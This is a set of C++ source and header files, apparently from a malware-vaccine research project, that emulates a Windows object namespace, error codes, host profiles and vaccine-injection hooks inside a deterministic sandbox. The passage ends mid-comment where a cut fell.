  void set_enabled(bool enabled) { enabled_ = enabled; }
  [[nodiscard]] bool enabled() const { return enabled_; }

  // Replaces the deterministic clock (default: the process-wide
  // vm.instructions_retired counter). Must be monotonic non-decreasing.
  void set_tick_clock(TickClock clock);

  // Opens a span nested under the currently open one. Returns kNoSpan
  // when disabled; EndSpan(kNoSpan) is a no-op, so call sites need no
  // enabled() checks of their own.
  [[nodiscard]] uint64_t BeginSpan(std::string_view name);

  // Closes `id`, which must be the innermost open span (RAII via
  // ScopedSpan guarantees this, including during unwinding).
  void EndSpan(uint64_t id);

  // Drops all spans (open and closed). Interned names survive.
  void Clear();

  [[nodiscard]] const std::vector<SpanRecord>& spans() const {
    return spans_;
  }
  [[nodiscard]] const std::string& SpanName(const SpanRecord& span) const {
    return names_.Lookup(span.name_id);
  }
  [[nodiscard]] size_t open_spans() const { return open_.size(); }

  // Inclusive per-name totals over spans_[first_span..], sorted by name.
  // Open spans are charged up to the current clock.
  [[nodiscard]] std::vector<PhaseTotal> PhaseTotals(
      size_t first_span = 0) const;

 private:
  [[nodiscard]] uint64_t Ticks() const;
  static uint64_t WallNs();

  bool enabled_ = false;
  TickClock clock_;
  StringInterner names_;
  std::vector<SpanRecord> spans_;
  std::vector<uint32_t> open_;  // stack of indices into spans_
};

// RAII span; safe to construct against a disabled tracer.
class ScopedSpan {
 public:
  ScopedSpan(Tracer& tracer, std::string_view name)
      : tracer_(tracer), id_(tracer.BeginSpan(name)) {}
  ~ScopedSpan() { tracer_.EndSpan(id_); }
  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

 private:
  Tracer& tracer_;
  uint64_t id_;
};

// The process-wide tracer the pipeline and clinic write to.
[[nodiscard]] Tracer& GlobalTracer();

struct ChromeTraceOptions {
  // Attach wall-clock durations under "args". Turn off to make the
  // export byte-identical across identically seeded runs.
  bool include_wall = true;
};

// Serializes the span list in Chrome trace_event JSON ("X" complete
// events; ts/dur are deterministic ticks). Load via chrome://tracing or
// Perfetto.
[[nodiscard]] std::string ExportChromeTrace(
    const Tracer& tracer, const ChromeTraceOptions& options = {});

}  // namespace autovac
