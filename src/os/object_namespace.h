// The kernel object namespace: every named resource a sandboxed program
// (malicious or benign) can create, open, read, write or delete, with
// Windows-flavoured semantics (case-insensitive names, CreateMutex
// succeeding-with-ERROR_ALREADY_EXISTS, ACL deny masks used by injected
// vaccines).
//
// The namespace is a value type: copying it snapshots machine state, which
// is how the pipeline re-runs a sample against an identical environment.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "os/errors.h"
#include "os/resources.h"

namespace autovac::os {

// Outcome of a namespace operation. `error` is a Win32-style code;
// `already_existed` carries the CreateMutex/CreateFile nuance the
// infection-marker logic depends on.
struct NsResult {
  bool ok = false;
  uint32_t error = kErrorSuccess;
  bool already_existed = false;

  static NsResult Ok() { return {true, kErrorSuccess, false}; }
  static NsResult OkExisted() { return {true, kErrorAlreadyExists, true}; }
  static NsResult Fail(uint32_t code) { return {false, code, false}; }
};

class ObjectNamespace {
 public:
  ObjectNamespace() = default;

  // --- files ----------------------------------------------------------
  // create_new: fail with kErrorAlreadyExists when the path exists
  // (CREATE_NEW disposition); otherwise an existing file opens in place.
  NsResult CreateFile(std::string_view path, bool create_new);
  NsResult OpenFile(std::string_view path) const;
  NsResult ReadFile(std::string_view path, std::string* content) const;
  NsResult WriteFile(std::string_view path, std::string_view content);
  NsResult DeleteFile(std::string_view path);
  [[nodiscard]] bool FileExists(std::string_view path) const;
  [[nodiscard]] const FileObject* FindFile(std::string_view path) const;
  FileObject* MutableFile(std::string_view path);

  // --- mutexes ----------------------------------------------------------
  NsResult CreateMutex(std::string_view name, uint32_t owner_pid);
  NsResult OpenMutex(std::string_view name) const;
  NsResult ReleaseMutex(std::string_view name);
  [[nodiscard]] bool MutexExists(std::string_view name) const;

  // --- registry ---------------------------------------------------------
  NsResult CreateKey(std::string_view path);
  NsResult OpenKey(std::string_view path) const;
  NsResult QueryValue(std::string_view path, std::string_view value_name,
                      std::string* data) const;
  NsResult SetValue(std::string_view path, std::string_view value_name,
                    std::string_view data);
  NsResult DeleteKey(std::string_view path);
  [[nodiscard]] bool KeyExists(std::string_view path) const;
  [[nodiscard]] const RegistryKeyObject* FindKey(std::string_view path) const;
  RegistryKeyObject* MutableKey(std::string_view path);

  // --- processes ---------------------------------------------------------
  // Returns the new pid.
  uint32_t SpawnProcess(std::string_view image_name, bool system_owned);
  [[nodiscard]] const ProcessObject* FindProcessByName(
      std::string_view image_name) const;
  [[nodiscard]] const ProcessObject* FindProcessByPid(uint32_t pid) const;
  NsResult InjectPayload(uint32_t pid, std::string_view payload);
  NsResult KillProcess(uint32_t pid);
  [[nodiscard]] const std::map<uint32_t, ProcessObject>& processes() const {
    return processes_;
  }

  // --- services ----------------------------------------------------------
  NsResult CreateService(std::string_view name, std::string_view binary_path);
  NsResult OpenService(std::string_view name) const;
  NsResult StartService(std::string_view name);
  NsResult DeleteService(std::string_view name);
  [[nodiscard]] bool ServiceExists(std::string_view name) const;

  // --- windows -------------------------------------------------------------
  NsResult CreateWindow(std::string_view class_name, std::string_view title,
                        uint32_t owner_pid);
  NsResult FindWindow(std::string_view class_name,
                      std::string_view title) const;
  // A registered-but-unowned window class blocks RegisterClass/CreateWindow
  // for that class (window-type vaccine).
  void ReserveWindowClass(std::string_view class_name);
  [[nodiscard]] bool IsWindowClassReserved(std::string_view class_name) const;

  // --- libraries -----------------------------------------------------------
  // A library loads when it is preinstalled or a file of that name exists.
  NsResult LoadLibrary(std::string_view name);
  [[nodiscard]] bool LibraryAvailable(std::string_view name) const;
  void PreinstallLibrary(std::string_view name);
  // A blocked library name always fails to load (library vaccine daemon).
  void BlockLibrary(std::string_view name);

  // --- vaccine injection hooks ----------------------------------------------
  // Creates a resource owned by the system with the given deny mask; used
  // by Phase-III direct injection.
  void InjectVaccineFile(std::string_view path, uint32_t deny_mask);
  void InjectVaccineMutex(std::string_view name);
  void InjectVaccineKey(std::string_view path, uint32_t deny_mask);
  void InjectVaccineService(std::string_view name);

  // --- resource accounting (fault-injection quotas) -------------------
  // Total named objects (files, mutexes, registry keys, services,
  // windows); the namespace-quota check of the fault layer.
  [[nodiscard]] size_t ObjectCount() const {
    return files_.size() + mutexes_.size() + registry_.size() +
           services_.size() + windows_.size();
  }
  // Sum of all file content sizes (disk-full simulation).
  [[nodiscard]] size_t TotalFileBytes() const;

  // Enumeration for reports/diffing.
  [[nodiscard]] std::vector<std::string> FileNames() const;
  [[nodiscard]] std::vector<std::string> MutexNames() const;
  [[nodiscard]] std::vector<std::string> KeyPaths() const;
  [[nodiscard]] std::vector<std::string> ServiceNames() const;

  // Canonical (lower-cased) form used as the map key.
  [[nodiscard]] static std::string Canonical(std::string_view name);

 private:
  std::map<std::string, FileObject> files_;
  std::map<std::string, MutexObject> mutexes_;
  std::map<std::string, RegistryKeyObject> registry_;
  std::map<uint32_t, ProcessObject> processes_;
  std::map<std::string, ServiceObject> services_;
  std::vector<WindowObject> windows_;
  std::set<std::string> reserved_window_classes_;
  std::set<std::string> preinstalled_libraries_;
  std::set<std::string> blocked_libraries_;
  uint32_t next_pid_ = 1000;
};

// A ready-to-infect machine: standard system libraries, the usual benign
// processes (explorer.exe, svchost.exe, ...), autostart registry keys and
// a few system files — everything the malware corpus expects to find.
void PopulateStandardMachine(ObjectNamespace& ns);

}  // namespace autovac::os
