// Win32-style error codes. The sandbox APIs reproduce the success/failure
// contract of the paper's Table I: results in EAX plus a per-process
// last-error value readable through GetLastError.
#pragma once

#include <cstdint>

namespace autovac::os {

inline constexpr uint32_t kErrorSuccess = 0;
inline constexpr uint32_t kErrorFileNotFound = 2;       // 0x02 (Table I)
inline constexpr uint32_t kErrorTooManyOpenFiles = 4;   // handle-table full
inline constexpr uint32_t kErrorAccessDenied = 5;
inline constexpr uint32_t kErrorInvalidHandle = 6;
inline constexpr uint32_t kErrorNotEnoughMemory = 8;
inline constexpr uint32_t kErrorReadFault = 30;         // 0x1E (Table I)
inline constexpr uint32_t kErrorSharingViolation = 32;
inline constexpr uint32_t kErrorDiskFull = 112;         // disk-full writes
inline constexpr uint32_t kErrorAlreadyExists = 183;
inline constexpr uint32_t kErrorNoMoreItems = 259;
inline constexpr uint32_t kErrorNoSystemResources = 1450;  // object quota
inline constexpr uint32_t kErrorServiceExists = 1073;
inline constexpr uint32_t kErrorServiceDoesNotExist = 1060;
inline constexpr uint32_t kErrorModNotFound = 126;
inline constexpr uint32_t kErrorCannotFindWndClass = 1407;

// Handle conventions: NULL and INVALID_HANDLE_VALUE both denote failure.
inline constexpr uint32_t kNullHandle = 0;
inline constexpr uint32_t kInvalidHandleValue = 0xFFFFFFFF;

// Boolean API results.
inline constexpr uint32_t kFalse = 0;
inline constexpr uint32_t kTrue = 1;

}  // namespace autovac::os
