#include "os/object_namespace.h"

#include "support/strings.h"

namespace autovac::os {

std::string ObjectNamespace::Canonical(std::string_view name) {
  return ToLower(name);
}

// --- files ----------------------------------------------------------------

NsResult ObjectNamespace::CreateFile(std::string_view path, bool create_new) {
  const std::string key = Canonical(path);
  auto it = files_.find(key);
  if (it != files_.end()) {
    if (it->second.deny_mask & DenyBit(Operation::kCreate)) {
      return NsResult::Fail(kErrorAccessDenied);
    }
    if (create_new) return NsResult::Fail(kErrorAlreadyExists);
    return NsResult::OkExisted();
  }
  FileObject file;
  file.path = std::string(path);
  files_.emplace(key, std::move(file));
  return NsResult::Ok();
}

NsResult ObjectNamespace::OpenFile(std::string_view path) const {
  auto it = files_.find(Canonical(path));
  if (it == files_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.deny_mask & DenyBit(Operation::kOpen)) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  return NsResult::Ok();
}

NsResult ObjectNamespace::ReadFile(std::string_view path,
                                   std::string* content) const {
  auto it = files_.find(Canonical(path));
  if (it == files_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.deny_mask & DenyBit(Operation::kRead)) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  if (content != nullptr) *content = it->second.content;
  return NsResult::Ok();
}

NsResult ObjectNamespace::WriteFile(std::string_view path,
                                    std::string_view content) {
  auto it = files_.find(Canonical(path));
  if (it == files_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.system_owned ||
      (it->second.deny_mask & DenyBit(Operation::kWrite))) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  it->second.content = std::string(content);
  return NsResult::Ok();
}

NsResult ObjectNamespace::DeleteFile(std::string_view path) {
  auto it = files_.find(Canonical(path));
  if (it == files_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.system_owned ||
      (it->second.deny_mask & DenyBit(Operation::kDelete))) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  files_.erase(it);
  return NsResult::Ok();
}

bool ObjectNamespace::FileExists(std::string_view path) const {
  return files_.count(Canonical(path)) > 0;
}

const FileObject* ObjectNamespace::FindFile(std::string_view path) const {
  auto it = files_.find(Canonical(path));
  return it == files_.end() ? nullptr : &it->second;
}

FileObject* ObjectNamespace::MutableFile(std::string_view path) {
  auto it = files_.find(Canonical(path));
  return it == files_.end() ? nullptr : &it->second;
}

// --- mutexes ----------------------------------------------------------------

NsResult ObjectNamespace::CreateMutex(std::string_view name,
                                      uint32_t owner_pid) {
  const std::string key = Canonical(name);
  auto it = mutexes_.find(key);
  if (it != mutexes_.end()) return NsResult::OkExisted();
  MutexObject mutex;
  mutex.name = std::string(name);
  mutex.owner_pid = owner_pid;
  mutexes_.emplace(key, std::move(mutex));
  return NsResult::Ok();
}

NsResult ObjectNamespace::OpenMutex(std::string_view name) const {
  if (mutexes_.count(Canonical(name)) == 0) {
    return NsResult::Fail(kErrorFileNotFound);
  }
  return NsResult::Ok();
}

NsResult ObjectNamespace::ReleaseMutex(std::string_view name) {
  auto it = mutexes_.find(Canonical(name));
  if (it == mutexes_.end()) return NsResult::Fail(kErrorInvalidHandle);
  if (it->second.system_owned) return NsResult::Fail(kErrorAccessDenied);
  mutexes_.erase(it);
  return NsResult::Ok();
}

bool ObjectNamespace::MutexExists(std::string_view name) const {
  return mutexes_.count(Canonical(name)) > 0;
}

// --- registry ----------------------------------------------------------------

NsResult ObjectNamespace::CreateKey(std::string_view path) {
  const std::string key = Canonical(path);
  auto it = registry_.find(key);
  if (it != registry_.end()) {
    if (it->second.deny_mask & DenyBit(Operation::kCreate)) {
      return NsResult::Fail(kErrorAccessDenied);
    }
    return NsResult::OkExisted();
  }
  RegistryKeyObject reg_key;
  reg_key.path = std::string(path);
  registry_.emplace(key, std::move(reg_key));
  return NsResult::Ok();
}

NsResult ObjectNamespace::OpenKey(std::string_view path) const {
  auto it = registry_.find(Canonical(path));
  if (it == registry_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.deny_mask & DenyBit(Operation::kOpen)) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  return NsResult::Ok();
}

NsResult ObjectNamespace::QueryValue(std::string_view path,
                                     std::string_view value_name,
                                     std::string* data) const {
  auto it = registry_.find(Canonical(path));
  if (it == registry_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.deny_mask & DenyBit(Operation::kRead)) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  auto value = it->second.values.find(Canonical(value_name));
  if (value == it->second.values.end()) {
    return NsResult::Fail(kErrorFileNotFound);
  }
  if (data != nullptr) *data = value->second;
  return NsResult::Ok();
}

NsResult ObjectNamespace::SetValue(std::string_view path,
                                   std::string_view value_name,
                                   std::string_view data) {
  auto it = registry_.find(Canonical(path));
  if (it == registry_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.system_owned ||
      (it->second.deny_mask & DenyBit(Operation::kWrite))) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  it->second.values[Canonical(value_name)] = std::string(data);
  return NsResult::Ok();
}

NsResult ObjectNamespace::DeleteKey(std::string_view path) {
  auto it = registry_.find(Canonical(path));
  if (it == registry_.end()) return NsResult::Fail(kErrorFileNotFound);
  if (it->second.system_owned ||
      (it->second.deny_mask & DenyBit(Operation::kDelete))) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  registry_.erase(it);
  return NsResult::Ok();
}

bool ObjectNamespace::KeyExists(std::string_view path) const {
  return registry_.count(Canonical(path)) > 0;
}

const RegistryKeyObject* ObjectNamespace::FindKey(std::string_view path) const {
  auto it = registry_.find(Canonical(path));
  return it == registry_.end() ? nullptr : &it->second;
}

RegistryKeyObject* ObjectNamespace::MutableKey(std::string_view path) {
  auto it = registry_.find(Canonical(path));
  return it == registry_.end() ? nullptr : &it->second;
}

// --- processes ----------------------------------------------------------------

uint32_t ObjectNamespace::SpawnProcess(std::string_view image_name,
                                       bool system_owned) {
  const uint32_t pid = next_pid_;
  next_pid_ += 4;
  ProcessObject process;
  process.pid = pid;
  process.image_name = std::string(image_name);
  process.system_owned = system_owned;
  processes_.emplace(pid, std::move(process));
  return pid;
}

const ProcessObject* ObjectNamespace::FindProcessByName(
    std::string_view image_name) const {
  const std::string key = Canonical(image_name);
  for (const auto& [pid, process] : processes_) {
    if (Canonical(process.image_name) == key) return &process;
  }
  return nullptr;
}

const ProcessObject* ObjectNamespace::FindProcessByPid(uint32_t pid) const {
  auto it = processes_.find(pid);
  return it == processes_.end() ? nullptr : &it->second;
}

NsResult ObjectNamespace::InjectPayload(uint32_t pid,
                                        std::string_view payload) {
  auto it = processes_.find(pid);
  if (it == processes_.end()) return NsResult::Fail(kErrorInvalidHandle);
  it->second.injected_payloads.emplace_back(payload);
  return NsResult::Ok();
}

NsResult ObjectNamespace::KillProcess(uint32_t pid) {
  auto it = processes_.find(pid);
  if (it == processes_.end()) return NsResult::Fail(kErrorInvalidHandle);
  if (it->second.system_owned) return NsResult::Fail(kErrorAccessDenied);
  processes_.erase(it);
  return NsResult::Ok();
}

// --- services ----------------------------------------------------------------

NsResult ObjectNamespace::CreateService(std::string_view name,
                                        std::string_view binary_path) {
  const std::string key = Canonical(name);
  auto it = services_.find(key);
  if (it != services_.end()) {
    if (it->second.system_owned) return NsResult::Fail(kErrorAccessDenied);
    return NsResult::Fail(kErrorServiceExists);
  }
  ServiceObject service;
  service.name = std::string(name);
  service.binary_path = std::string(binary_path);
  services_.emplace(key, std::move(service));
  return NsResult::Ok();
}

NsResult ObjectNamespace::OpenService(std::string_view name) const {
  if (services_.count(Canonical(name)) == 0) {
    return NsResult::Fail(kErrorServiceDoesNotExist);
  }
  return NsResult::Ok();
}

NsResult ObjectNamespace::StartService(std::string_view name) {
  auto it = services_.find(Canonical(name));
  if (it == services_.end()) {
    return NsResult::Fail(kErrorServiceDoesNotExist);
  }
  if (it->second.system_owned) return NsResult::Fail(kErrorAccessDenied);
  it->second.running = true;
  return NsResult::Ok();
}

NsResult ObjectNamespace::DeleteService(std::string_view name) {
  auto it = services_.find(Canonical(name));
  if (it == services_.end()) {
    return NsResult::Fail(kErrorServiceDoesNotExist);
  }
  if (it->second.system_owned) return NsResult::Fail(kErrorAccessDenied);
  services_.erase(it);
  return NsResult::Ok();
}

bool ObjectNamespace::ServiceExists(std::string_view name) const {
  return services_.count(Canonical(name)) > 0;
}

// --- windows ----------------------------------------------------------------

NsResult ObjectNamespace::CreateWindow(std::string_view class_name,
                                       std::string_view title,
                                       uint32_t owner_pid) {
  if (IsWindowClassReserved(class_name)) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  WindowObject window;
  window.class_name = std::string(class_name);
  window.title = std::string(title);
  window.owner_pid = owner_pid;
  windows_.push_back(std::move(window));
  return NsResult::Ok();
}

NsResult ObjectNamespace::FindWindow(std::string_view class_name,
                                     std::string_view title) const {
  const std::string class_key = Canonical(class_name);
  const std::string title_key = Canonical(title);
  for (const WindowObject& window : windows_) {
    const bool class_match =
        class_key.empty() || Canonical(window.class_name) == class_key;
    const bool title_match =
        title_key.empty() || Canonical(window.title) == title_key;
    if (class_match && title_match) return NsResult::Ok();
  }
  // A reserved class is reported as present: the vaccine simulates the
  // window's existence.
  if (!class_key.empty() && IsWindowClassReserved(class_name)) {
    return NsResult::Ok();
  }
  return NsResult::Fail(kErrorCannotFindWndClass);
}

void ObjectNamespace::ReserveWindowClass(std::string_view class_name) {
  reserved_window_classes_.insert(Canonical(class_name));
}

bool ObjectNamespace::IsWindowClassReserved(
    std::string_view class_name) const {
  return reserved_window_classes_.count(Canonical(class_name)) > 0;
}

// --- libraries ----------------------------------------------------------------

NsResult ObjectNamespace::LoadLibrary(std::string_view name) {
  if (blocked_libraries_.count(Canonical(name)) > 0) {
    return NsResult::Fail(kErrorAccessDenied);
  }
  if (!LibraryAvailable(name)) return NsResult::Fail(kErrorModNotFound);
  return NsResult::Ok();
}

bool ObjectNamespace::LibraryAvailable(std::string_view name) const {
  if (preinstalled_libraries_.count(Canonical(name)) > 0) return true;
  // A dropped DLL is loadable by path or bare name.
  if (FileExists(name)) return true;
  return false;
}

void ObjectNamespace::PreinstallLibrary(std::string_view name) {
  preinstalled_libraries_.insert(Canonical(name));
}

void ObjectNamespace::BlockLibrary(std::string_view name) {
  blocked_libraries_.insert(Canonical(name));
}

// --- vaccine injection ---------------------------------------------------------

void ObjectNamespace::InjectVaccineFile(std::string_view path,
                                        uint32_t deny_mask) {
  FileObject file;
  file.path = std::string(path);
  file.system_owned = true;
  file.deny_mask = deny_mask;
  files_[Canonical(path)] = std::move(file);
}

void ObjectNamespace::InjectVaccineMutex(std::string_view name) {
  MutexObject mutex;
  mutex.name = std::string(name);
  mutex.owner_pid = 4;  // SYSTEM
  mutex.system_owned = true;
  mutexes_[Canonical(name)] = std::move(mutex);
}

void ObjectNamespace::InjectVaccineKey(std::string_view path,
                                       uint32_t deny_mask) {
  RegistryKeyObject key;
  key.path = std::string(path);
  key.system_owned = true;
  key.deny_mask = deny_mask;
  registry_[Canonical(path)] = std::move(key);
}

void ObjectNamespace::InjectVaccineService(std::string_view name) {
  ServiceObject service;
  service.name = std::string(name);
  service.binary_path = "C:\\Windows\\system32\\svchost.exe -k vaccine";
  service.system_owned = true;
  services_[Canonical(name)] = std::move(service);
}

// --- resource accounting --------------------------------------------------------

size_t ObjectNamespace::TotalFileBytes() const {
  size_t total = 0;
  for (const auto& [key, file] : files_) total += file.content.size();
  return total;
}

// --- enumeration ---------------------------------------------------------------

std::vector<std::string> ObjectNamespace::FileNames() const {
  std::vector<std::string> out;
  out.reserve(files_.size());
  for (const auto& [key, file] : files_) out.push_back(file.path);
  return out;
}

std::vector<std::string> ObjectNamespace::MutexNames() const {
  std::vector<std::string> out;
  out.reserve(mutexes_.size());
  for (const auto& [key, mutex] : mutexes_) out.push_back(mutex.name);
  return out;
}

std::vector<std::string> ObjectNamespace::KeyPaths() const {
  std::vector<std::string> out;
  out.reserve(registry_.size());
  for (const auto& [key, reg] : registry_) out.push_back(reg.path);
  return out;
}

std::vector<std::string> ObjectNamespace::ServiceNames() const {
  std::vector<std::string> out;
  out.reserve(services_.size());
  for (const auto& [key, service] : services_) out.push_back(service.name);
  return out;
}

// --- standard machine -----------------------------------------------------------

void PopulateStandardMachine(ObjectNamespace& ns) {
  // Benign processes malware commonly injects into.
  ns.SpawnProcess("explorer.exe", /*system_owned=*/false);
  ns.SpawnProcess("svchost.exe", /*system_owned=*/false);
  ns.SpawnProcess("winlogon.exe", /*system_owned=*/true);
  ns.SpawnProcess("lsass.exe", /*system_owned=*/true);
  ns.SpawnProcess("services.exe", /*system_owned=*/true);

  // System libraries (the exclusiveness analysis must flag these as
  // benign-shared identifiers — the paper's uxtheme.dll example).
  for (const char* dll :
       {"kernel32.dll", "ntdll.dll", "user32.dll", "advapi32.dll",
        "uxtheme.dll", "msvcrt.dll", "mscrt.dll", "ws2_32.dll",
        "wininet.dll", "shell32.dll", "ole32.dll", "gdi32.dll",
        "comctl32.dll", "crypt32.dll"}) {
    ns.PreinstallLibrary(dll);
  }

  // Autostart locations and common system keys.
  ns.CreateKey("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  ns.CreateKey("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  ns.CreateKey(
      "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon");
  ns.CreateKey("HKLM\\System\\CurrentControlSet\\Services");
  ns.SetValue("HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
              "Shell", "explorer.exe");

  // A few system files.
  ns.CreateFile("C:\\Windows\\system32\\ntoskrnl.exe", false);
  ns.CreateFile("C:\\Windows\\system32\\svchost.exe", false);
  ns.CreateFile("C:\\Windows\\explorer.exe", false);
  ns.CreateFile("C:\\Windows\\system.ini", false);
  ns.CreateFile("C:\\autoexec.bat", false);
  for (const char* path :
       {"C:\\Windows\\system32\\ntoskrnl.exe",
        "C:\\Windows\\system32\\svchost.exe", "C:\\Windows\\explorer.exe"}) {
    FileObject* file = ns.MutableFile(path);
    if (file != nullptr) file->system_owned = true;
  }
}

}  // namespace autovac::os
