// Per-machine environment: the deterministic inputs (computer name,
// volume serial, user...) that algorithm-deterministic vaccine identifiers
// derive from, plus a virtual clock and a host-local entropy stream for
// the genuinely random APIs (GetTickCount, GetTempFileName).
#pragma once

#include <cstdint>
#include <string>

#include "support/rng.h"

namespace autovac::os {

struct HostProfile {
  std::string computer_name = "WIN-DESKTOP7";
  std::string user_name = "alice";
  uint32_t volume_serial = 0x1CA0B3F4;
  std::string ip_address = "192.168.1.23";
  std::string windows_dir = "C:\\Windows";
  std::string system_dir = "C:\\Windows\\system32";
  std::string temp_dir = "C:\\Windows\\Temp";
  uint32_t os_version = 0x0501;  // XP-era, the paper's test bed
  std::string language = "en-US";

  // A deterministic default host (the analysis machine).
  static HostProfile AnalysisMachine();

  // A randomized host, as seen when deploying vaccines in the field.
  static HostProfile Randomized(autovac::Rng& rng);
};

class VirtualClock {
 public:
  explicit VirtualClock(uint64_t boot_millis = 47'123) : millis_(boot_millis) {}

  [[nodiscard]] uint64_t NowMillis() const { return millis_; }
  void AdvanceMillis(uint64_t delta) { millis_ += delta; }

 private:
  uint64_t millis_;
};

}  // namespace autovac::os
