#include "os/host.h"

#include "support/strings.h"

namespace autovac::os {

HostProfile HostProfile::AnalysisMachine() { return HostProfile{}; }

HostProfile HostProfile::Randomized(autovac::Rng& rng) {
  HostProfile profile;
  profile.computer_name =
      "WIN-" + ToUpper(rng.NextIdentifier(8));
  static const std::vector<std::string> kUsers = {
      "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"};
  profile.user_name = rng.Pick(kUsers);
  profile.volume_serial = static_cast<uint32_t>(rng.NextU64());
  profile.ip_address =
      StrFormat("192.168.%u.%u", static_cast<unsigned>(rng.NextBelow(254) + 1),
                static_cast<unsigned>(rng.NextBelow(253) + 2));
  return profile;
}

}  // namespace autovac::os
