#include "os/resources.h"

namespace autovac::os {

std::string_view ResourceTypeName(ResourceType type) {
  switch (type) {
    case ResourceType::kFile: return "File";
    case ResourceType::kRegistry: return "Registry";
    case ResourceType::kMutex: return "Mutex";
    case ResourceType::kProcess: return "Process";
    case ResourceType::kWindow: return "Windows";
    case ResourceType::kLibrary: return "Library";
    case ResourceType::kService: return "Service";
    case ResourceType::kTypeCount: break;
  }
  return "?";
}

Result<ResourceType> ResourceTypeFromName(std::string_view name) {
  for (size_t i = 0; i < kNumResourceTypes; ++i) {
    const auto type = static_cast<ResourceType>(i);
    std::string_view canonical = ResourceTypeName(type);
    if (name.size() != canonical.size()) continue;
    bool equal = true;
    for (size_t j = 0; j < name.size(); ++j) {
      const char a = name[j];
      const char b = canonical[j];
      const char la = (a >= 'A' && a <= 'Z') ? static_cast<char>(a + 32) : a;
      const char lb = (b >= 'A' && b <= 'Z') ? static_cast<char>(b + 32) : b;
      if (la != lb) {
        equal = false;
        break;
      }
    }
    if (equal) return type;
  }
  if (name == "window" || name == "Window") return ResourceType::kWindow;
  return Status::InvalidArgument("unknown resource type '" +
                                 std::string(name) + "'");
}

std::string_view OperationName(Operation op) {
  switch (op) {
    case Operation::kCreate: return "Create";
    case Operation::kOpen: return "Read/Open";
    case Operation::kRead: return "Read";
    case Operation::kWrite: return "Write";
    case Operation::kDelete: return "Delete";
    case Operation::kOpCount: break;
  }
  return "?";
}

char OperationSymbol(Operation op) {
  switch (op) {
    case Operation::kCreate: return 'C';
    case Operation::kOpen: return 'E';
    case Operation::kRead: return 'R';
    case Operation::kWrite: return 'W';
    case Operation::kDelete: return 'D';
    case Operation::kOpCount: break;
  }
  return '?';
}

}  // namespace autovac::os
