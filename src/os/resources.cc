#include "os/resources.h"

namespace autovac::os {

std::string_view ResourceTypeName(ResourceType type) {
  switch (type) {
    case ResourceType::kFile: return "File";
    case ResourceType::kRegistry: return "Registry";
    case ResourceType::kMutex: return "Mutex";
    case ResourceType::kProcess: return "Process";
    case ResourceType::kWindow: return "Windows";
    case ResourceType::kLibrary: return "Library";
    case ResourceType::kService: return "Service";
    case ResourceType::kTypeCount: break;
  }
  return "?";
}

std::string_view OperationName(Operation op) {
  switch (op) {
    case Operation::kCreate: return "Create";
    case Operation::kOpen: return "Read/Open";
    case Operation::kRead: return "Read";
    case Operation::kWrite: return "Write";
    case Operation::kDelete: return "Delete";
    case Operation::kOpCount: break;
  }
  return "?";
}

char OperationSymbol(Operation op) {
  switch (op) {
    case Operation::kCreate: return 'C';
    case Operation::kOpen: return 'E';
    case Operation::kRead: return 'R';
    case Operation::kWrite: return 'W';
    case Operation::kDelete: return 'D';
    case Operation::kOpCount: break;
  }
  return '?';
}

}  // namespace autovac::os
