// Bundles everything that constitutes "a machine": identity profile,
// object namespace, virtual clock, and the host-local entropy stream.
// Copyable so a run can snapshot and restore machine state.
#pragma once

#include "os/host.h"
#include "os/object_namespace.h"
#include "support/rng.h"

namespace autovac::os {

class HostEnvironment {
 public:
  explicit HostEnvironment(HostProfile profile, uint64_t entropy_seed = 7)
      : profile_(std::move(profile)), rng_(entropy_seed) {}

  // The analysis machine: deterministic profile + fully populated
  // standard namespace.
  static HostEnvironment StandardMachine(uint64_t entropy_seed = 7) {
    HostEnvironment env(HostProfile::AnalysisMachine(), entropy_seed);
    PopulateStandardMachine(env.ns_);
    return env;
  }

  // A field machine with a randomized identity.
  static HostEnvironment RandomizedMachine(autovac::Rng& rng) {
    HostEnvironment env(HostProfile::Randomized(rng), rng.NextU64());
    PopulateStandardMachine(env.ns_);
    return env;
  }

  [[nodiscard]] const HostProfile& profile() const { return profile_; }
  [[nodiscard]] HostProfile& mutable_profile() { return profile_; }
  [[nodiscard]] ObjectNamespace& ns() { return ns_; }
  [[nodiscard]] const ObjectNamespace& ns() const { return ns_; }
  [[nodiscard]] VirtualClock& clock() { return clock_; }
  [[nodiscard]] autovac::Rng& entropy() { return rng_; }

 private:
  HostProfile profile_;
  ObjectNamespace ns_;
  VirtualClock clock_;
  autovac::Rng rng_;
};

}  // namespace autovac::os
