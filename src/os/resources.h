// System-resource model: the seven resource types the paper's evaluation
// covers (file, registry, mutex, process, window, library, service) and
// the operations whose success/failure the vaccine pipeline manipulates.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "support/status.h"

namespace autovac::os {

enum class ResourceType : uint8_t {
  kFile = 0,
  kRegistry,
  kMutex,
  kProcess,
  kWindow,
  kLibrary,
  kService,
  kTypeCount,
};
inline constexpr size_t kNumResourceTypes =
    static_cast<size_t>(ResourceType::kTypeCount);

[[nodiscard]] std::string_view ResourceTypeName(ResourceType type);

// Case-insensitive inverse of ResourceTypeName, for CLI flags and the
// vacd QUERY protocol; also accepts "window" for kWindow (whose display
